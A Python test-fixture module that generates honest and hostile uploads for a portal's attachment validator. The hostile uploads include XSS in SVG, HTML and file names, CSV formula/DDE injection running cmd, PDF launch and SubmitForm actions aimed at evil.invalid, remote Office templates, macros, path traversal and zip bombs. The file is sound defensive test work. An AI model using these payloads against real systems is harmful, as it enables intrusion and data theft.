"""Files as people send them, and as attackers do; each is made by code, none is kept."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

from PIL import Image

from portal.core.permissions import Actor
from portal.core.uploads.intake import Purpose, Sent
from portal.practices.queries.files import FileView
from portal.practices.services import files
from tests.factories.drafts import practice_of

W = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
X = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
P = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
MAIN = {"docx": W, "xlsx": X, "pptx": P}
ODF = {
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
}
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


@dataclass(frozen=True)
class File:
    """A file with the name and the media type that a browser would send."""

    name: str
    body: bytes
    media_type: str = ""


def picture(kind: str = "JPEG", size: tuple[int, int] = (640, 400), mode: str = "RGB") -> bytes:
    """Return a picture, red on its left half and blue on its right, without any metadata."""
    made = Image.new(mode, size, "blue" if mode.startswith("RGB") else 0)
    if mode.startswith("RGB"):
        made.paste("red", (0, 0, size[0] // 2, size[1]))
    return _saved(made, kind)


def _saved(made: Image.Image, kind: str, **options: object) -> bytes:
    file = io.BytesIO()
    made.save(file, kind, **options)
    return file.getvalue()


def photo(orientation: int = 6) -> bytes:
    """Return a JPEG that says where, when and by which camera it was taken, lying on its side."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Kamera Rahasia"
    exif.get_ifd(0x8825).update({1: "S", 2: (7.0, 15.0, 20.0), 3: "E", 4: (112.0, 44.0, 0.0)})
    made = Image.open(io.BytesIO(picture("PNG")))
    return _saved(made, "JPEG", exif=exif, comment=b"rahasia sekali")


def chunk(kind: bytes, body: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def giant_png(width: int, height: int) -> bytes:
    """Return a small PNG that says it has very many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def zipped(entries: Mapping[str, bytes], *, stored: tuple[str, ...] = ()) -> bytes:
    """Return a zip archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries.items():
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), body, how)
    return file.getvalue()


def office(kind: str = "docx", main: str = "", **more: bytes) -> bytes:
    """Return a document of Word, Excel or PowerPoint with entries besides; `__` stands for /."""
    main = main or f"{MAIN[kind]}.main+xml"
    entries = {
        "[Content_Types].xml": f'<Types><Override ContentType="{main}"/></Types>'.encode(),
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document/>",
    }
    return zipped(entries | {name.replace("__", "/"): body for name, body in more.items()})


def office_with(path: str, body: bytes = b"x", kind: str = "docx") -> bytes:
    """Return a document of Word, Excel or PowerPoint with one entry besides."""
    return office(kind, **{path.replace("/", "__"): body})


def open_document(kind: str = "odt", entries: Mapping[str, bytes] | None = None) -> bytes:
    """Return a document of LibreOffice with entries besides."""
    made = {"mimetype": ODF[kind].encode(), "content.xml": b"<office:document-content/>"}
    return zipped(made | dict(entries or {}), stored=("mimetype",))


def pdf(
    pages: tuple[str, ...] = ("Standar pelayanan",), extra: str = "", tail: bytes = b""
) -> bytes:
    """Return a PDF with a line of text on each page; `extra` is said of the whole document."""
    objects = [f"<< /Type /Catalog /Pages 2 0 R {extra} >>"]
    kids = " ".join(f"{4 + 2 * index} 0 R" for index in range(len(pages)))
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>")
    objects.append("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    for index, text in enumerate(pages):
        drawn = f"BT /F1 12 Tf 72 700 Td ({text}) Tj ET"
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {5 + 2 * index} 0 R "
            "/Resources << /Font << /F1 3 0 R >> >> >>"
        )
        objects.append(f"<< /Length {len(drawn)} >>\nstream\n{drawn}\nendstream")
    return _assembled(objects) + tail


def _assembled(objects: list[str]) -> bytes:
    body, places = b"%PDF-1.4\n", []
    for number, told in enumerate(objects, start=1):
        places.append(len(body))
        body += f"{number} 0 obj\n{told}\nendobj\n".encode("latin-1")
    start = len(body)
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(objects) + 1
    table = f"xref\n0 {size}\n0000000000 65535 f \n{rows}trailer\n<< /Size {size} /Root 1 0 R >>\n"
    return body + table.encode() + f"startxref\n{start}\n%%EOF\n".encode()


def packed_script() -> bytes:
    """Return a PDF whose script stands in compressed objects."""
    hidden = zlib.compress(b"7 0 << /S /JavaScript /JS (app.alert(1)) >>")
    head = f"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length {len(hidden)} >>\nstream\n".encode()
    return pdf().replace(b"xref\n0", head + hidden + b"\nendstream\nendobj\nxref\n0", 1)


def lying_zip() -> bytes:
    """Return a document in which two entries are the same bytes, as in bombs that overlap."""
    whole = bytearray(office("docx", word__a_xml=b"a" * 900, word__b_xml=b"a" * 900))
    first = whole.rfind(b"PK\x01\x02", 0, whole.rfind(b"PK\x01\x02"))
    last = whole.rfind(b"PK\x01\x02")
    whole[last + 42 : last + 46] = whole[first + 42 : first + 46]
    return bytes(whole)


def locked_zip() -> bytes:
    """Return a document that says its entries are encrypted."""
    whole = bytearray(office())
    place = whole.find(b"PK\x01\x02")
    whole[place + 8] |= 1
    return bytes(whole)


def twice_named() -> bytes:
    """Return a document with two entries that differ in the case of their letters alone."""
    return office("docx", word__Document_xml=b"a", word__document_xml=b"b")


DOCX, XLSX, PPTX = f"{W}", f"{X}", f"{P}"
EXTERNAL = (
    b'<Relationships><Relationship Type="http://x/relationships/%s" '
    b'Target="http://evil.invalid/a.dotm" TargetMode="External"/></Relationships>'
)


def honest() -> dict[str, File]:
    """Return a file of every type that is taken as an attachment."""
    rels = EXTERNAL % b"hyperlink"
    return {
        "pdf": File("Laporan tahun.pdf", pdf(), "application/pdf"),
        "docx": File("sop.docx", office_with("word/_rels/document.xml.rels", rels), DOCX),
        "xlsx": File("data.xlsx", office("xlsx"), XLSX),
        "chart": File("grafik.docx", office_with("word/embeddings/a.xlsx", office("xlsx")), DOCX),
        "pptx": File("paparan.pptx", office("pptx"), "application/octet-stream"),
        "odt": File("sop.odt", open_document("odt"), ODF["odt"]),
        "ods": File("data.ods", open_document("ods"), ODF["ods"]),
        "odp": File("paparan.odp", open_document("odp"), ""),
        "csv": File("data.csv", b"\xef\xbb\xbfkota;nilai\r\nCemara;-4,5\r\n", "text/plain"),
        "latin": File(
            "data.CSV", "kota,catatan\nA,\u201cbaik\u201d\n".encode("cp1252"), "text/csv"
        ),
        "png": File("peta.png", picture("PNG"), "image/png"),
        "jpeg": File("foto.JPEG", photo(), "image/jpeg"),
    }


def hostile_attachments() -> dict[str, File]:
    """Return files that must be refused as attachments."""
    return {
        **_wrong_types(),
        **_polyglots(),
        **_macros(),
        **_bombs_and_paths(),
        **_active_documents(),
        **broken_pictures(),
    }


def _wrong_types() -> dict[str, File]:
    return {
        "empty": File("kosong.pdf", b""),
        "over the limit": File("besar.pdf", pdf(tail=b" " * 10_000_001)),
        "svg": File("logo.svg", SVG, "image/svg+xml"),
        "svg as png": File("logo.png", SVG, "image/png"),
        "svg as csv": File("logo.csv", b"a,b\n" + SVG, "text/csv"),
        "svg after xml": File("logo.csv", b'<?xml version="1.0"?>, ' + SVG),
        "html": File("a.html", HTML, "text/html"),
        "html as pdf": File("a.pdf", HTML, "application/pdf"),
        "html as csv": File("a.csv", b"a,b\n" + HTML, "text/csv"),
        "html as docx": File("a.docx", HTML, DOCX),
        "xhtml": File("a.xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml"/>'),
        "script": File("a.js", b"alert(1), 2", "text/javascript"),
        "php": File("a.csv", b"a,b\n<?php system('id') ?>", "text/csv"),
        "exe": File("a.exe", b"MZ\x90\0" + b"\0" * 100),
        "exe as pdf": File("a.pdf", b"MZ\x90\0" + b"\0" * 100, "application/pdf"),
        "elf": File("a.csv", b"\x7fELF" + bytes(range(256)), "text/csv"),
        "gif": File("a.gif", b"GIF89a" + b"\0" * 40, "image/gif"),
        "webp": File("a.webp", picture("WEBP"), "image/webp"),
        "bmp": File("a.bmp", picture("BMP"), "image/bmp"),
        "old word": File("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "rtf": File("a.rtf", rb"{\rtf1 {\object\objemb}}"),
        "zip": File("a.zip", zipped({"a.txt": b"a"}), "application/zip"),
        "zip as docx": File("a.docx", zipped({"a.txt": b"a"}), DOCX),
        "jar as docx": File("a.docx", zipped({"META-INF/MANIFEST.MF": b"a"}), DOCX),
        "docx as pdf": File("a.pdf", office(), "application/pdf"),
        "pdf as docx": File("a.docx", pdf(), DOCX),
        "png as jpg": File("a.jpg", picture("PNG"), "image/jpeg"),
        "no suffix": File("laporan", pdf(), "application/pdf"),
        "two suffixes": File("laporan.pdf.exe", pdf(), "application/pdf"),
        "suffix behind a nul": File("a.exe\0.html", pdf(), "application/pdf"),
        "told to be html": File("a.pdf", pdf(), "text/html"),
        "told to be svg": File("a.png", picture("PNG"), "image/svg+xml"),
        "plain text": File("a.csv", b"satu baris saja", "text/csv"),
    }


def _polyglots() -> dict[str, File]:
    archive = zipped({"a.txt": b"a"})
    return {
        "html before pdf": File("a.pdf", HTML + pdf(), "application/pdf"),
        "pdf and zip": File("a.pdf", pdf() + archive, "application/pdf"),
        "pdf and html": File("a.pdf", pdf(tail=HTML * 40), "application/pdf"),
        "pdf and jpeg": File("a.pdf", b"\xff\xd8\xff\xe0" + pdf(), "application/pdf"),
        "exe and docx": File("a.docx", b"MZ\x90\0" + office(), DOCX),
        "html and docx": File("a.docx", HTML + office(), DOCX),
        "docx and html": File("a.docx", office() + HTML, DOCX),
        "gif and docx": File("a.docx", b"GIF89a" + office(), DOCX),
        "png head alone": File("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + HTML, "image/png"),
        "jpeg head alone": File("a.jpg", b"\xff\xd8\xff\xe0" + HTML, "image/jpeg"),
    }


def _macros() -> dict[str, File]:
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return {
        "docm": File("a.docm", office(main=enabled)),
        "docm as docx": File("a.docx", office(main=enabled), DOCX),
        "word macros": File("a.docx", office_with("word/vbaProject.bin"), DOCX),
        "word macros, case": File("a.docx", office_with("word/VBAPROJECT.BIN"), DOCX),
        "word macros, hidden": File("a.docx", office_with("customXml/vbaProject.xml"), DOCX),
        "excel macros": File("a.xlsx", office_with("xl/vbaProject.bin", kind="xlsx"), XLSX),
        "excel 4 macros": File("a.xlsx", office_with("xl/macrosheets/s.xml", kind="xlsx"), XLSX),
        "activex": File("a.docx", office_with("word/activeX/activeX1.xml"), DOCX),
        "ole object": File("a.docx", office_with("word/embeddings/oleObject1.bin"), DOCX),
        "exe inside": File("a.docx", office_with("word/media/a.exe"), DOCX),
        "script inside": File("a.pptx", office_with("ppt/a.vbs", kind="pptx"), PPTX),
        "macros in a chart": File(
            "a.docx",
            office_with("word/embeddings/a.xlsx", office_with("xl/vbaProject.bin", kind="xlsx")),
            DOCX,
        ),
        "zip as a chart": File(
            "a.docx", office_with("word/embeddings/a.xlsx", zipped({"a": b"a"})), DOCX
        ),
        "basic": File("a.odt", open_document("odt", {"Basic/Standard/M.xml": b"a"}), ODF["odt"]),
        "python": File("a.ods", open_document("ods", {"Scripts/python/a.py": b"a"}), ODF["ods"]),
        "ole in odf": File("a.odp", open_document("odp", {"Object 1": b"a"}), ODF["odp"]),
        "template from elsewhere": File(
            "a.docx",
            office_with("word/_rels/settings.xml.rels", EXTERNAL % b"attachedTemplate"),
            DOCX,
        ),
        "object from elsewhere": File(
            "a.docx", office_with("word/_rels/document.xml.rels", EXTERNAL % b"oleObject"), DOCX
        ),
        "pointers in utf-16": File(
            "a.docx",
            office_with("word/_rels/x.rels", (EXTERNAL % b"frame").decode().encode("utf-16")),
            DOCX,
        ),
    }


def _bombs_and_paths() -> dict[str, File]:
    many = {f"word/{number}.xml": b"" for number in range(5001)}
    bomb = zipped({"mimetype": ODF["odt"].encode(), "a.xml": b"\0" * 9}, stored=("mimetype",))
    places: Mapping[str, str] = {
        "up": "../../evil.xml",
        "root": "/etc/evil.xml",
        "drive": "C:/evil.xml",
        "backslash": "..\\evil.xml",
        "control": "word/a\x1b.xml",
        "long": "word/" + "a" * 300 + ".xml",
    }
    return {
        "bomb": File("a.docx", office_with("word/a.xml", b"\0" * 201_000_000), DOCX),
        "bomb, many entries": File(
            "a.docx", office(**{k.replace("/", "__"): v for k, v in many.items()})
        ),
        "bomb, overlapping": File("a.docx", lying_zip(), DOCX),
        "pointers too long": File("a.docx", office_with("word/a.rels", b" " * 3_000_000), DOCX),
        "encrypted": File("a.docx", locked_zip(), DOCX),
        "cut off": File("a.docx", office()[:-30], DOCX),
        "damaged": File(
            "a.docx", office().replace(b"[Content_Types].xml", b"[Content_Types].xmk", 1)
        ),
        "comment": File("a.odt", bomb[:-2] + b"\x04\0evil", ODF["odt"]),
        "same name twice": File("a.docx", office_with("word/DOCUMENT.xml"), DOCX),
        **{f"path {how}": File("a.docx", office_with(path), DOCX) for how, path in places.items()},
    }


def _active_documents() -> dict[str, File]:
    said = {
        "script": "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "script, escaped": "/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>",
        "launch": "/OpenAction << /S /Launch /F (cmd.exe) >>",
        "embedded": "/Names << /EmbeddedFiles << /Names [] >> >>",
        "form of adobe": "/AcroForm << /XFA (x) >>",
        "rich media": "/Extra << /Subtype /RichMedia >>",
        "sends": "/OpenAction << /S /SubmitForm /F (http://evil.invalid) >>",
        "locked": "/Encrypt 9 0 R",
    }
    formulas: Mapping[str, bytes] = {
        "dde": b"a,b\n=cmd|'/c calc'!A1,2",
        "link": b'a;b\n"=HYPERLINK(""http://evil.invalid"")";2',
        "at": b"a,b\n@SUM(1+1)*cmd|'/c calc'!A0,2",
        "plus": b"a,b\n+cmd|'/c calc'!A0,2",
    }
    return {
        **{f"pdf, {how}": File("a.pdf", pdf(extra=extra)) for how, extra in said.items()},
        "pdf, packed script": File("a.pdf", packed_script()),
        "pdf, cut off": File("a.pdf", pdf()[:-20]),
        "pdf, head alone": File("a.pdf", b"%PDF-1.7\n" + b"\0" * 100),
        **{f"csv, {how}": File("a.csv", body) for how, body in formulas.items()},
        "csv, nul": File("a.csv", b"a,b\n\0,1"),
    }


def broken_pictures() -> dict[str, File]:
    """Return pictures that must be refused whatever they are for."""
    png, jpeg = picture("PNG"), picture("JPEG")
    return {
        "jpeg, cut off": File("a.jpg", jpeg[: len(jpeg) // 2], "image/jpeg"),
        "png, cut off": File("a.png", png[: len(png) // 2], "image/png"),
        "png, damaged": File("a.png", png.replace(b"IDAT", b"IDAX"), "image/png"),
        "png, 2,000 megapixels": File("a.png", giant_png(50_000, 40_000), "image/png"),
        "png, 41 megapixels": File("a.png", giant_png(41_000, 1000), "image/png"),
        "png, pixels missing": File("a.png", giant_png(5000, 5000), "image/png"),
        "png, nothing": File("a.png", giant_png(0, 0), "image/png"),
    }


def malicious() -> dict[str, File]:
    """Return files that are taken although whoever sent them meant harm."""
    png, tail = picture("PNG")[:33], picture("PNG")[33:]
    return {
        "script as csv": File("a.csv", b"alert(1),2\n3,4\n", "text/csv"),
        "markup in csv": File("b.csv", b"a,b\n<b>tebal</b>,2\n", "text/csv"),
        "jpeg and html": File("foto.jpg", photo() + HTML, "image/jpeg"),
        "html in a png": File("c.png", png + chunk(b"tEXt", b"Comment\0" + HTML) + tail),
        "markup as a name": File("<img src=x onerror=alert(1)>.pdf", pdf(), "application/pdf"),
    }


def attached(
    actor: Actor, slug: str, file: File, purpose: Purpose = Purpose.ATTACHMENT, **more: bool
) -> FileView:
    """Attach a file to the draft of a practice, and return it."""
    sent = Sent(io.BytesIO(file.body), file.name, file.media_type)
    return files.attach(actor, practice_of(slug).id, sent, purpose, **more)
